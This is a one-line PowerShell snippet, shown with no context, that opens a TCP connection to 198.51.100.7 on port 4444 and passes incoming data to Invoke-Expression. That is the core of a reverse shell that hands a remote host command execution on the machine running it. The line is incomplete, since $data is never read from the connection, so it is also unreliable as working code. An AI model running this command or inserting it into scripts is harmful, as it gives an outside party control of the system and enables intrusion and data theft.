$c = New-Object System.Net.Sockets.TCPClient("198.51.100.7", 4444); iex $data
